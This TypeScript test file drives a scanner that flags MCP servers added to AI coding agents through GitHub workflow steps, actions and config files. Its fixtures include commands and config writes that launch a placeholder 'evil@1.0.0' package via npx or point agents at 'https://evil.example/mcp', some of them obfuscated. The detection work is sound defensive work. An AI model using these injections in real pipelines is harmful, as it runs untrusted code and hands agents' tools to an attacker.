/* What the words, variables and inputs of a workflow's step tell clients. */
import { type Case, type FileContent, type Files, playCases } from './cases.ts';

const bad = { command: 'npx', args: ['-y', '@fictional-mcp/files@1.2.0'] };
const json = (value: unknown): FileContent => ({ json: value });
const servers = json({ mcpServers: { files: bad } });
const opencode = { mcp: { files: { type: 'local', command: [bad.command, ...bad.args] } } };
const enabling = json({ enabledPlugins: { 'a@b': true } });

const step = (lines: string): Files => ({
  '.github/workflows/x.yml': `on: push\njobs:\n  a:\n    steps:\n      - ${lines.replaceAll('\n', '\n        ')}\n`,
});
const says = (lines: string, files: Files, expected: string | RegExp, base: Files = {}): Case => ({
  ...{ name: `${lines} beside ${Object.keys(files)}`, base, expected },
  head: { ...step(lines), ...files },
});
const action = (run: string, files: Files, expected: string): Case => ({
  ...{ name: `${run} in an action beside ${Object.keys(files)}`, base: {}, expected },
  head: {
    'act/action.yml': `runs:\n  using: composite\n  steps:\n    - run: ${run}\n      shell: bash\n`,
    ...files,
  },
});

const seen = 'added: below-minimum';
const unknown = 'added: unidentified';

const files: readonly Case[] = [
  says('run: acme --mcp-config $CFG\nenv: {CFG: ci/x.json}', { 'ci/x.json': servers }, seen),
  says('run: acme --mcp-config "${DIR}/x.json"\nenv: {DIR: ci}', { 'ci/x.json': servers }, seen),
  says(
    'run: acme --mcp-config ${{ env.DIR }}/x.json\nenv: {DIR: ci}',
    { 'ci/x.json': servers },
    seen,
  ),
  says('run: acme --mcp-config x.json\nworking-directory: ci', { 'ci/x.json': servers }, seen),
  ...[
    'cd sub && acme --mcp-config x.json',
    'cd ./a && ls\n  cd "../sub"\n  acme --mcp-config x.json',
    '(cd $GITHUB_WORKSPACE/sub; acme --mcp-config=x.json)',
    'pushd sub\n  cp x.json "$HOME/.mcp.json"',
  ].map((run) => says(`run: |\n  ${run}`, { 'sub/x.json': servers }, seen)),
  says(
    'run: cd sub && acme --mcp-config x.json\nworking-directory: ci',
    { 'ci/sub/x.json': servers },
    seen,
  ),
  says('run: claude --settings=ci/x.json', { 'ci/x.json': enabling }, unknown),
  says('run: x\nenv: {OPENCODE_CONFIG: ci/x.json}', { 'ci/x.json': json(opencode) }, seen),
  says(`run: x\nenv:\n  OPENCODE_CONFIG_CONTENT: '${JSON.stringify(opencode)}'`, {}, seen),
  says('run: x\nenv: {GEMINI_CLI_SYSTEM_SETTINGS_PATH: ci/x.json}', { 'ci/x.json': servers }, seen),
  says('run: x\nenv: {CLAUDE_CONFIG_DIR: ci/x}', { 'ci/x/settings.json': enabling }, unknown),
  says(
    'run: x\nenv:\n  CODEX_HOME: ${{ github.workspace }}/ci/x',
    { 'ci/x/config.toml': '[mcp_servers.x]\nurl = "https://evil.example/mcp"\n' },
    /^added: (?:altered-launch, )?unlisted$/,
  ),
  action('acme --mcp-config ${{ github.action_path }}/s.json', { 'act/s.json': servers }, seen),
  action('acme --mcp-config "$GITHUB_ACTION_PATH/s.json"', { 'act/s.json': servers }, seen),
  action('cp ${{ github.action_path }}/../ci/s.json .mcp.json', { 'ci/s.json': servers }, seen),
  action('claude --settings ${GITHUB_ACTION_PATH}/s.json', { 'act/s.json': enabling }, unknown),
];

const plugins: readonly Case[] = [
  says('run: claude --plugin-dir vendor/p', { 'vendor/p/.mcp.json': servers }, seen),
  says('run: claude --plugin-dir=./tests/p', {}, 'changed: below-minimum', {
    'tests/p/.mcp.json': servers,
  }),
  ...[
    'claude plugin install x@y',
    'claude plugin install --scope project x@y',
    'claude plugin i "x@y"',
    'claude plugins enable x@y',
    'droid plugin install x@y',
    'gemini extensions link ./ext',
  ].map((run) => says(`run: ${run}`, {}, unknown)),
];

const options: readonly Case[] = [
  says(
    `run: codex exec -c 'mcp_servers.x.command="npx"' -c 'mcp_servers.x.args=["-y", "evil@1.0.0"]'`,
    {},
    'added: unlisted',
  ),
  says('run: codex -c mcp_servers.x.command=./evil x', {}, unknown),
  says('run: codex --config=mcp_servers.x.url=https://evil.example/mcp x', {}, 'added: unlisted'),
  says(
    `uses: openai/codex-action@v1\nwith:\n  codex-args: '["-c", "mcp_servers.x.url=https://evil.example/mcp"]'`,
    {},
    'added: unlisted',
  ),
];

const added: readonly Case[] = [
  says('run: claude mcp add x -- npx -y $P\nenv: {P: evil}', {}, unknown),
  says('run: $C mcp add x -- npx -y evil@1.0.0\nenv: {C: claude}', {}, 'added: unlisted'),
  ...[
    'npx -y @anthropic-ai/claude-code@2.0.0 mcp add a -- npx -y evil@1.0.0',
    'npx @google/gemini-cli@latest mcp add a npx -y evil@1.0.0',
    '"$HOME/.local/bin/claude" mcp add a -- npx -y evil@1.0.0',
    'claude.exe mcp add a npx -y evil@1.0.0',
    `claude 'mcp' "add" a -- npx -y evil@1.0.0`,
    'claude m"c"p ad\\d a -- npx -y evil@1.0.0',
    '$CLAUDE mcp add a -- npx -y evil@1.0.0',
    'q mcp add --name a --command npx --args "-y,evil@1.0.0"',
    'auggie mcp add a --command npx --args "-y evil@1.0.0"',
    'A=b codebuddy mcp add a npx -y evil@1.0.0',
    'unknown-one mcp add --transport http a https://evil.example/mcp',
    `code --add-mcp '{"name":"a","command":"npx","args":["-y","evil@1.0.0"]}'`,
  ].map((run) => says(`run: |\n  ${run}`, {}, 'added: unlisted')),
  says('run: q mcp add a -- npx -y @fictional-mcp/notes@1.4.0', {}, 'added'),
];

const npxEvil = { command: 'npx', args: ['-y', 'evil@1.0.0'] };
const writes = (target: string, text: string): string =>
  `run: |\n  cat > ${target} <<'EOF'\n  ${text.replaceAll('\n', '\n  ')}\n  EOF`;
const written: readonly Case[] = [
  says(
    `uses: google-github-actions/run-gemini-cli@v0\nwith:\n  settings: '{"mcp":{"serverCommand":"npx -y evil@1.0.0"}}'`,
    {},
    'added: unlisted',
  ),
  says(
    `uses: openai/codex-action@v1\nwith:\n  codex-args: '["-c","mcp_servers={a={command=\\"npx\\",args=[\\"-y\\",\\"evil@1.0.0\\"]}}"]'`,
    {},
    'added: unlisted',
  ),
  ...[
    writes(
      'opencode.json',
      JSON.stringify({ mcp: { a: { type: 'local', command: ['npx', '-y', 'evil@1.0.0'] } } }),
    ),
    writes('.vscode/mcp.json', JSON.stringify({ servers: { a: npxEvil } })),
    writes('~/.codex/config.toml', '[mcp_servers.a]\ncommand = "npx"\nargs = ["-y", "evil@1.0.0"]'),
    writes(
      '"$HOME/.config/goose/config.yaml"',
      'extensions:\n  a:\n    type: stdio\n    enabled: true\n    cmd: npx\n    args: [-y, evil@1.0.0]',
    ),
    `run: |\n  echo '{"servers":{"a":{"command":"npx","args":["-y","evil@1.0.0"]}}}' > .vscode/mcp.json`,
    `run: |\n  echo "[mcp_servers.a]" >> ~/.codex/config.toml\n  echo 'command = "npx"' >> ~/.codex/config.toml\n  echo 'args = ["-y", "evil@1.0.0"]' | tee -a ~/.codex/config.toml`,
    writes('.mcp.json', JSON.stringify({ mcpServers: { a: npxEvil } })),
  ].map((run) => says(run, {}, 'added: unlisted')),
];

const team = (...args: string[]): FileContent =>
  json({ agents: { root: { toolsets: [{ type: 'mcp', command: 'npx', args }] } } });
const recipe = json({ extensions: [{ type: 'stdio', name: 'a', cmd: 'npx', args: npxEvil.args }] });
const shaped: readonly Case[] = [
  says(
    'uses: docker/cagent-action@v1\nwith: {agent: x/team.yaml}',
    { 'x/team.yaml': team('-y', 'evil@1.0.0') },
    'added: unlisted',
  ),
  says('run: cagent exec x/t.yaml', { 'x/t.yaml': team('-y', 'evil@1.0.0') }, 'added: unlisted'),
  says('run: goose run --recipe ci/r.yaml', { 'ci/r.yaml': recipe }, 'added: unlisted'),
  says('run: goose run --recipe ci/r.json', { 'ci/r.json': recipe }, 'added: unlisted'),
  says(
    'run: goose run --recipe ci/r.yaml',
    { 'ci/r.yaml': 'sub_recipes: [{path: ./subs/h.yaml}]\n', 'ci/subs/h.yaml': recipe },
    'added: unlisted',
  ),
  says(
    'run: cn --config x/c.yaml # agent',
    { 'x/c.yaml': json({ mcpServers: [{ name: 'a', ...npxEvil }] }) },
    'added: unlisted',
  ),
  says(
    'run: litellm --config x/l.yaml # agent',
    { 'x/l.yaml': json({ mcp_servers: { a: npxEvil } }) },
    'added: unlisted',
  ),
];

const honest: readonly Case[] = [
  says('run: codex exec -c model=o3 -c sandbox_mode="read-only" x', {}, 'nothing'),
  says(
    'run: x\nenv: {OPENCODE_CONFIG: ci/x.json}',
    { 'ci/x.json': json({ mcp: { enabled: true, timeout: 5 } }) },
    'nothing',
  ),
  says('run: x\nenv: {CLAUDE_CONFIG_DIR: "${{ runner.temp }}/claude"}', {}, 'nothing'),
  says('run: x\nname: The command mcp add is documented -- see docs', {}, 'nothing'),
  says('run: echo "How to mcp add a server" && acme mcp list', {}, 'nothing'),
  says('run: acme mcp add-json --help', {}, 'nothing'),
  says(
    writes('package.json', '{"name":"x","servers":{"a":{"url":"https://example.org"}}}'),
    {},
    'nothing',
  ),
  says(
    writes('deploy/values.yaml', 'image: x:${TAG}\nservers:\n  - url: https://example.org'),
    {},
    'nothing',
  ),
  says(writes('~/.codex/config.toml', 'model = "o3"\n[sandbox]\nmode = "$MODE"'), {}, 'nothing'),
  says(writes('opencode.json', '{"model": $MODEL, "mcp": {}}'), {}, 'nothing'),
  says(
    'run: goose run ci/x.yaml',
    { 'ci/x.yaml': json({ extensions: [{ name: 'zip', url: 'https://example.org' }] }) },
    'nothing',
  ),
  says(
    'run: agent ci/x.yaml',
    { 'ci/x.yaml': json({ agents: { root: { toolsets: [{ type: 'shell' }] } } }) },
    'nothing',
  ),
  says('run: cd docs && acme --mcp-config x.json', { 'sub/x.json': enabling }, 'nothing'),
  says('run: claude --plugin-dir /opt/plugins -p hi', {}, 'nothing'),
  says('run: helm plugin install https://example.org/x && claude plugin list', {}, 'nothing'),
  says(
    'run: npm test\nworking-directory: ci',
    { 'ci/package.json': json({ name: 'x' }) },
    'nothing',
  ),
  says('run: jq . $FILE\nenv: {FILE: ci/x.json}', { 'ci/x.json': json({ a: 1 }) }, 'nothing'),
  says(`run: x\nenv:\n  BODY: '{"mcp": {"type": "local", "text": "x"}}'`, {}, 'nothing'),
  action('cat ${{ github.action_path }}/s.json', { 'act/s.json': json({ a: 1 }) }, 'nothing'),
];

playCases([...files, ...plugins, ...options, ...added, ...written, ...shaped, ...honest]);
